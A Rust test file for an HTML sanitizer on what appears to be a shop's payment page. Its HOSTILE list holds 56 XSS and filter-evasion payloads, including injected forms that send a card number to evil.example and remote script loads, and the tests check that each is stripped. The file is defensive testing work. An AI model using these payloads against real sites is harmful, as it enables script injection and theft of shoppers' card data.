use super::*;

fn clean(html: &str) -> String {
    sanitize(html).map(|html| html.as_str().to_owned()).unwrap()
}

/// What gets around sanitizers, from the public lists (OWASP XSS filter evasion, DOMPurify's and ammonia's own regressions) and from this page:
/// fields and buttons that would join the card form, names and classes of ours, addresses that lead to scripts.
const HOSTILE: [&str; 56] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"/image/4000/ab\" onload=\"alert(1)\">",
    "<img src=https://evil.example/track.png>",
    "<img src=//evil.example/track.png>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=/pay/cancel>",
    "<img src=/image/../pay>",
    "<img src='/image/4000/ab?x=1'>",
    "<img srcset='https://evil.example/a 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<form action=https://evil.example><input name=card_number><button>Pay</button></form>",
    "<input form=card name=card_number>",
    "<button form=card formaction=https://evil.example>Pay</button>",
    "<textarea form=card name=note></textarea>",
    "<select form=card name=x><option>1</option></select>",
    "<label for=card_number>Card number</label>",
    "<p id=card>x</p>",
    "<p id=pay name=order>x</p>",
    "<p class=amount>0</p>",
    "<div class='summary wrong'>x</div>",
    "<span class=figure>0</span>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/pay/cancel>x</a>",
    "<a href=http://evil.example>x</a>",
    "<a href=https://shop.example target=card ping=https://evil.example>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<table background=https://evil.example/x.png><tr><td>x",
];

#[test]
fn nothing_hostile_is_left() {
    for hostile in HOSTILE {
        let clean = clean(hostile);
        for (tag, attributes) in elements(&clean) {
            assert!(TAGS.contains(&tag.as_str()), "{hostile} left <{tag}>: {clean}");
            for (name, value) in attributes {
                let fit = match (tag.as_str(), name.as_str()) {
                    ("a", "href") => value.starts_with("https://shop.example"),
                    ("a", "rel") => value == "noopener noreferrer nofollow",
                    ("img", "src") => value == "/image/4000/ab",
                    _ => false,
                };
                assert!(fit, "{hostile} left {name}={value}: {clean}");
            }
        }
    }
}

/// The elements of a piece of HTML, read by the rules that browsers read it by.
fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    html5gum::Tokenizer::new(html)
        .filter_map(|token| match token {
            Ok(html5gum::Token::StartTag(tag)) => {
                let attributes = tag.attributes.iter().map(|(name, value)| (text(name), text(value)));
                Some((text(&tag.name), attributes.collect()))
            }
            Ok(_) => None,
            Err(never) => match never {},
        })
        .collect()
}

#[test]
fn what_was_cleaned_stays_as_it_is() {
    for html in HOSTILE.iter().chain(&["<p>a<b>c</p>d</b>", "<ul><li>x<li>y", "a & b < c", "<table><tr><td>x</table>"])
    {
        let once = clean(html);
        assert_eq!(clean(&once), once, "{html}");
    }
}

#[test]
fn a_shop_says_what_it_has_to_say() {
    for (html, cleaned) in [
        ("", ""),
        ("お届けは<b>3日</b>以内です。", "お届けは<b>3日</b>以内です。"),
        ("<h3>返品</h3><p lang=\"ja\">8日以内<br>未開封</p>", "<h3>返品</h3><p lang=\"ja\">8日以内<br>未開封</p>"),
        (
            "<a href=\"https://shop.example/faq\">FAQ</a>",
            "<a href=\"https://shop.example/faq\" rel=\"noopener noreferrer nofollow\">FAQ</a>",
        ),
        (
            "<img src=\"/image/4000/0a1b\" alt=\"店\" width=\"200\">",
            "<img src=\"/image/4000/0a1b\" alt=\"店\" width=\"200\">",
        ),
        ("<p>open", "<p>open</p>"),
        ("</main></section></form><p>x</p>", "<p>x</p>"),
        ("<!-- note --><p>x</p>", "<p>x</p>"),
    ] {
        assert_eq!(clean(html), cleaned, "{html}");
    }
}

#[test]
fn what_cannot_be_seen_is_refused() {
    assert_eq!(sanitize("<p>abc\u{202e}fdp</p>"), Err(SettingProblem::HtmlControl));
    assert_eq!(sanitize("a\0b"), Err(SettingProblem::HtmlControl));
    assert_eq!(sanitize(&"x".repeat(ShopHtml::MAX_BYTES + 1)), Err(SettingProblem::HtmlTooLong));
    assert!(sanitize(&"x".repeat(ShopHtml::MAX_BYTES)).is_ok());
}
